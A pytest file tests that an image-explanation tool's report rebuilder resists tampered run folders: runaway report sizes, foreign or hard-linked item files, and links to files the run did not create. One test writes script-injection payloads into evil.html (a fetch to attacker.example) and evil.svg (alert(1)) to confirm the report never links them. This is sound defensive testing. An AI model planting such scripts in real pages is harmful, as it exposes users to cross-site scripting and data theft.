"""The tenth attack, on `explain report` over a shared run folder: a report.html 75-150x its
summary.json (the paged index drew every image against every named class; task numbers of
no run made a column each for every method), every items/*.json read for its compare rows
(any count, any ids, hard links parsed once per name, every row kept), and links to any
file of the folder a record named (a map's `file`, `files.atlas_page`: evil.html)."""

from __future__ import annotations

import json
import os
import shutil
from html.parser import HTMLParser
from pathlib import Path
from urllib.parse import unquote

import pytest
import torch

from explain.config import load_config
from explain.runner import RunOptions, run
from explain.writers.report import load_run, rebuild
from helpers import IMAGES, tiny_config, tiny_net

QUIET = dict(progress=False, log=lambda _: None)


@pytest.fixture(scope="module")
def finished(tmp_path_factory) -> Path:
    """A finished run of the tiny CNN over the three photos, compared with the hand-written
    Grad-CAM (--compare: summary.json's compare section, rows in the item files)."""
    tmp = tmp_path_factory.mktemp("attack10")
    torch.save(tiny_net(), tmp / "tiny.pt")
    cfg = tiny_config(tmp, {"file": str(tmp / "tiny.pt")}, classes={"cat": 0, "dog": 1},
                      images=[str(IMAGES / f) for f in ("cat.jpg", "dog.jpg", "both.jpg")],
                      compare={"enabled": True}, targets="all")
    run(load_config(cfg), RunOptions(**QUIET))
    return tmp / "results" / "exp"


def edited(finished: Path, tmp_path: Path, change) -> Path:
    """A copy of the run whose summary.json ``change`` edited (a dict, in place)."""
    copy = tmp_path / "shared"
    shutil.copytree(finished, copy)
    summary = json.loads((copy / "summary.json").read_text())
    change(summary)
    (copy / "summary.json").write_text(json.dumps(summary))
    return copy


class Page(HTMLParser):
    """A page's links (href and src, decoded), index header cells and notes."""

    def __init__(self, path: Path):
        super().__init__()
        self.links: list[str] = []
        self.headers: list[str] = []
        self.notes: list[str] = []
        self.where: list[str] = []
        self.feed(path.read_text(encoding="utf-8"))

    def handle_starttag(self, tag, attrs):
        attrs = dict(attrs)
        self.links += [unquote(attrs[k]) for k in ("href", "src") if attrs.get(k)]
        self.where.append(attrs.get("class") or attrs.get("id") or tag)

    def handle_endtag(self, tag):
        if self.where:
            self.where.pop()

    def handle_data(self, data):
        if "index" in self.where and self.where[-1] == "th":
            self.headers.append(data)
        if "notes" in self.where and self.where[-1] == "li":
            self.notes.append(data)


# ---- the report's size: linear in what the run holds --------------------------------------

def test_the_paged_index_shows_at_most_twenty_class_columns(finished, tmp_path):
    """1,000 named classes x 20,000 images (a 1.6 MB summary.json) made a 232 MB index."""
    def many_classes(s):
        s["config"]["classes"] = {"cat": 0, "dog": 1, **{f"c{i}": i for i in range(2, 1000)}}
        s["config"]["report"]["page_size"] = 1
        s["images"] += [{**s["images"][0], "id": f"a{i}", "cams": [], "files": {}}
                        for i in range(300)]
    copy = edited(finished, tmp_path, many_classes)
    page = Page(rebuild(copy))
    probabilities = [h for h in page.headers if h.startswith("p(")]
    assert probabilities == ["p(cat)", "p(dog)"] + [f"p(c{i})" for i in range(2, 20)]
    text = (copy / "report.html").read_text()
    assert "The table shows p(class) of the 20 classes the images list most; those of 980 " \
           "more classes are in summary.csv" in text
    assert (copy / "report.html").stat().st_size < 400_000  # 303 rows x 1,000 cells: 3.7 MB


def test_task_numbers_of_no_run_are_left_out_with_a_note(finished, tmp_path):
    """A summary's task section was never checked: 1.7 million numbers x 18 methods made
    375 MB of HTML from 5 MB."""
    honest = (finished / "report.html").stat().st_size
    copy = edited(finished, tmp_path, lambda s: s.update(
        task={"task": "segmentation", "numbers": [""] * 100_000}))
    page = Page(rebuild(copy))
    assert "task-table" not in (copy / "report.html").read_text()
    assert (copy / "report.html").stat().st_size < honest + 2_000
    assert page.notes[-1] == ("summary.json: task: numbers of task 'segmentation', not its "
                              "run's (classification); the task table is left out (the run "
                              "folder was edited after the run)")


def test_task_numbers_must_be_the_tasks_in_their_order_of_its_methods():
    from explain.tasks.records import TaskSummary, task_problem
    honest = dict(task="detection", numbers=["energy_in_box", "inside_outside"],
                  means={"gradcam": {"inside_outside": 0.9, "energy_in_box": 0.5}},
                  maps={"gradcam": 2}, counted={"gradcam": {"inside_outside": 1}})
    assert task_problem(TaskSummary(**honest), "detection", ["gradcam"]) is None
    for change, says in [
            (dict(numbers=["energy_in_box"] * 2), "numbers that are not its task's, in their "
                                                  "order"),
            (dict(numbers=["inside_outside", "energy_in_box"]), "in their order"),
            (dict(numbers=["energy_in_region"]), "in their order"),
            (dict(means={"layercam": {}}), "means of a method or number that is not its run's"),
            (dict(numbers=["energy_in_box"]), "means of a method or number"),
            (dict(maps={"x": 1}), "map counts of a method that is not its run's"),
            (dict(task="segmentation"), "numbers of task 'segmentation', not its run's")]:
        assert says in (task_problem(TaskSummary(**{**honest, **change}), "detection",
                                     ["gradcam"]) or ""), change


# ---- item files: only the run's own, once each, only its maps' rows ---------------------------

def _item_with_rows(finished: Path, image: str, rows: list[dict]) -> str:
    item = json.loads((finished / "items" / "cat.json").read_text())
    item["entry"]["id"] = image
    item["compare"] += rows
    return json.dumps(item)


def _row(image: str, cls: str = "cat", method: str = "gradcam") -> dict:
    return {"image": image, "class": cls, "method": method, "max_abs": 99, "mean_abs": 0,
            "pearson": 1, "iou_top20": 1}


def test_only_the_summarys_own_item_files_and_maps_give_compare_rows(finished, tmp_path):
    """Every items/*.json was read and every row kept, keyed by the item's own id (4 extra
    64 MB files: 4.1 GB)."""
    copy = edited(finished, tmp_path, lambda s: None)
    (copy / "items" / "x0.json").write_text(_item_with_rows(finished, "x0", [_row("x0")] * 50))
    others = [_row("dog"), _row("cat", "bird"), _row("cat", "cat", "layercam"), _row("cat")]
    (copy / "items" / "cat.json").write_text(_item_with_rows(finished, "cat", others * 25))
    data = load_run(copy)
    assert sorted(data.compare_rows) == ["both", "cat", "dog"]
    rows = data.compare_rows["cat"]
    assert [(r.image, r.class_name, r.method) for r in rows] == \
        [("cat", "cat", "gradcam"), ("cat", "dog", "gradcam")]
    assert all(r.max_abs != 99 for r in rows)  # the run's own rows, not added ones
    assert data.summary.notes[-1] == (
        "compare: 100 row(s) of the item files are not of the run's maps (another image, "
        "class or method, or a map's second row) and were left out")


def test_an_item_file_larger_than_its_images_records_is_not_read(finished, tmp_path):
    """Each 64 MB item file of a summary's own image was ~2 GB once parsed and validated."""
    from explain.reportload import item_budget
    copy = edited(finished, tmp_path, lambda s: None)
    data = load_run(copy)
    entry = next(e for e in data.summary.images if e.id == "dog")
    assert (copy / "items" / "dog.json").stat().st_size < item_budget(entry) / 4
    text = _item_with_rows(finished, "dog", [_row("dog", "dog")] * 2000)
    assert len(text) > item_budget(entry)
    (copy / "items" / "dog.json").write_text(text)
    data = load_run(copy)
    assert sorted(data.compare_rows) == ["both", "cat"]
    assert data.summary.notes[-1] == (
        "1 item file(s) larger than their image's records can make were not read: "
        "'items/dog.json'; their image's compare rows are not in the report")


def test_an_item_file_read_already_under_another_name_is_not_read_again(finished, tmp_path):
    """One 64 MB item file hard-linked under 8 names was parsed 8 times (42 s); a folder
    copied with hard links (cp -al, a snapshot) is read whole."""
    copy = edited(finished, tmp_path, lambda s: None)
    (copy / "items" / "dog.json").unlink()
    os.link(copy / "items" / "cat.json", copy / "items" / "dog.json")
    os.link(copy / "items" / "cat.json", copy / "items" / "x1.json")
    data = load_run(copy)
    assert sorted(data.compare_rows) == ["both", "cat"]
    assert data.summary.notes[-1] == (
        "1 item file(s) that are another item file under a second name (hard links) were not "
        "read: 'items/dog.json'; their image's compare rows are not in the report")
    page = Page(rebuild(copy))
    assert page.notes[-1].startswith("1 item file(s) that are another item file")
    snapshot = tmp_path / "snapshot"
    shutil.copytree(finished, snapshot, copy_function=os.link)  # every file: two names
    data = load_run(snapshot)
    assert sorted(data.compare_rows) == ["both", "cat", "dog"]
    assert not any("hard link" in note for note in data.summary.notes)


def test_an_unfinished_runs_linked_item_files_are_not_read(finished, tmp_path):
    copy = tmp_path / "unfinished"
    shutil.copytree(finished, copy)
    (copy / "summary.json").unlink()
    (copy / "items" / "dog.json").unlink()
    os.link(copy / "items" / "cat.json", copy / "items" / "dog.json")
    data = load_run(copy)
    assert [e.id for e in data.summary.images] == ["both", "cat"] and not data.finished
    assert data.summary.notes == [
        "1 item file(s) that are another item file under a second name (hard links) were not "
        "read: 'items/dog.json'; their images are not in the report"]


def test_an_unfinished_runs_item_file_larger_than_its_config_allows_is_not_read(finished,
                                                                               tmp_path):
    """Without a summary, each item file could be 64 MiB (four of 41 MB: 1.9 GB); its run's
    config bounds it now: 64 KiB and 8 KiB a map (classes x methods)."""
    copy = tmp_path / "unfinished"
    shutil.copytree(finished, copy)
    (copy / "summary.json").unlink()
    item = (copy / "items" / "dog.json").read_text()
    (copy / "items" / "dog.json").write_text(item + " " * (64 * 1024 + 8 * 1024 * 2))
    data = load_run(copy)
    assert [e.id for e in data.summary.images] == ["both", "cat"]
    assert data.summary.notes == [
        "1 item file(s) larger than their image's records can make were not read: "
        "'items/dog.json'; their images are not in the report"]


# ---- links: only the names the run gives its files ------------------------------------------

def test_a_rebuilt_report_links_only_the_names_the_run_gives_its_files(finished, tmp_path):
    def foreign(s):
        cams = s["images"][0]["cams"]
        cams[0]["file"] = "evil.html"
        cams[1]["files"]["compare"] = "cams/gradcam/cat__dog.png"  # another file's name
        s["images"][1]["files"]["photo"] = "evil.svg"
        s["files"]["atlas_page"] = "evil.html"
        s["files"]["panels"]["dog"] = "evil.html"
    copy = edited(finished, tmp_path, foreign)
    (copy / "evil.html").write_text("<script>fetch('https://attacker.example/')</script>")
    (copy / "evil.svg").write_text("<svg><script>alert(1)</script></svg>")
    page = Page(rebuild(copy))
    assert not [link for link in page.links if "evil" in link]
    assert "compare/gradcam/cat__dog.png" not in page.links  # the name was another's
    assert "cams/gradcam/cat__cat.png" not in page.links
    assert "Channels across the run" not in (copy / "report.html").read_text()
    for kept in ("cams/gradcam/cat__dog.png", "cams/gradcam/dog__dog.png", "panels/cat.png",
                 "report/photos/cat.jpg", "compare/gradcam/dog__cat.png"):
        assert kept in page.links, kept
    assert page.notes[-1] == (
        "5 file name(s) in the records are not the names explain gives those files, so the "
        "report does not link them: 'evil.html' (map of 'cat' by gradcam on 'cat'), "
        "'cams/gradcam/cat__dog.png' (map of 'dog' by gradcam on 'cat'), 'evil.svg' (image "
        "'dog'), 'evil.html' (files.atlas_page), 'evil.html' (panel of 'dog'); the run "
        "folder was edited after the run")
